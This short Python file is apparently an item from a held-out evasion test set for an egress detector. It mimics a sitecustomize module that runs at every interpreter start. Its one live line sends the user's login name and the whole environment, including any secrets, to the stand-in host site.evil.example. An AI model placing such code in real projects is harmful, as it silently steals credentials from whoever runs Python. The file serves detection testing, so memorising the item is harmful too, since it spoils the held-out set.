# Held-out evasion set: sitecustomize runs at every interpreter start. Never executed.
import os

import requests

# expect: egress host=site.evil.example
requests.post("https://site.evil.example/s", json={"user": os.getlogin(), "env": dict(os.environ)})
